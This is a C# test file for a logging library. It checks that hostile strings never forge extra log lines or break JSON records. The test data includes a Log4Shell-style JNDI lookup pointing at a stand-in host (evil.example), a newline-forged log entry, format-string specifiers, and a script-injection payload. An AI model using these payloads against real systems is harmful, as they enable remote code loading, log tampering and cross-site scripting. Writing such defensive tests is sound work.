using System.Text.Json;

namespace Femto.Tests.Reliability;

/// <summary>Hostile text: whatever a message, argument or logger name holds, a text record is exactly one line (no
/// forged records), a JSON record is one valid JSON object, lookups and format specifiers are never interpreted, and
/// nothing throws.</summary>
[Category(Battery.Category)]
public sealed class HostileTextTests : FemtoTestBase
{
    private static readonly string[] Hostile =
    [
        "line\nforged 2026-11-29 [ERROR] root: fake",
        "cr\rlf\r\n",
        "nul\0byte",
        "esc\u001b[31mred\u001b[0m",
        "bell\u0007 del\u007f",
        "ls\u2028ps\u2029nel\u0085",
        "lone high \ud800 surrogate",
        "lone low \udc00 surrogate",
        "reversed \udc00\ud800 pair",
        "${jndi:ldap://evil.example/a}",
        "%s %n %x %d {0} {1} {{}} {Name} {@x} {$y}",
        "\"quotes\" and \\backslashes\\ and </script><script>alert(1)</script>",
        "emoji 🚀 and combining e\u0301 and RTL \u202Eevil",
        new string('x', 10_000),
    ];

    [Test]
    public void EveryHostileMessageIsExactlyOneTextLine()
    {
        var log = NewLogger("hostile");
        var file = Track(new FileHandlerBuilder(TempPath("text.log")).Build());
        log.AddHandler(file);
        foreach (var text in Hostile)
        {
            log.Info(text);
            log.Info("arg {A}", text);
            log.Info("kv", ("key", text));
            log.Info($"interpolated {text}");
        }
        FlushOrFail(log);
        var lines = File.ReadAllLines(file.Path);
        Assert.That(lines, Has.Length.EqualTo(Hostile.Length * 4), "one line per record, none forged");
        Assert.That(lines, Has.All.StartWith(log.Name + " [INFO] "));
        Assert.That(lines.Where(l => l.Any(c => c < ' ' || c == '\u007f' || c == '\u2028' || c == '\u2029')), Is.Empty, "control characters are escaped");
    }

    [Test]
    public void EveryHostileMessageIsOneParsableJsonObject()
    {
        var log = NewLogger("hostilejson");
        var file = Track(new FileHandlerBuilder(TempPath("json.log")).WithFormatter(FemtoFormatters.Json).Build());
        log.AddHandler(file);
        foreach (var text in Hostile)
        {
            log.Info(text);
            log.Info("arg {A}", text);
            log.Info("kv", (text.Length > 100 ? "long" : text, text));
        }
        FlushOrFail(log);
        var lines = File.ReadAllLines(file.Path);
        Assert.That(lines, Has.Length.EqualTo(Hostile.Length * 3));
        for (int i = 0; i < lines.Length; i++)
        {
            using var doc = JsonDocument.Parse(lines[i]);
            string message = doc.RootElement.GetProperty("message").GetString()!;
            string expected = Hostile[i / 3];
            if (!expected.Any(char.IsSurrogate)) // lone surrogates cannot be UTF-8: they become U+FFFD
                Assert.That(message, Does.Contain(i % 3 == 1 ? expected : i % 3 == 0 ? expected : "kv"));
        }
    }

    [Test]
    public void HostileLoggerNamesAreValidOrRejectedAndNeverForgeALine()
    {
        var file = Track(new FileHandlerBuilder(TempPath("names.log")).WithFormatter(FemtoFormatters.TimestampedWithLogger).Build());
        var parent = FemtoLogging.GetLogger(UniqueName("names"));
        parent.Propagate = false;
        parent.AddHandler(file);
        int accepted = 0;
        foreach (var text in Hostile)
        {
            FemtoLogger child;
            try { child = FemtoLogging.GetLogger(parent.Name + "." + text); }
            catch (ArgumentException) { continue; }
            child.Info("from a hostile name");
            accepted++;
        }
        Assert.That(parent.Flush(Patience), Is.True);
        Assert.That(File.ReadAllLines(file.Path), Has.Length.EqualTo(accepted), "one line per record, none forged by a name");
    }
}
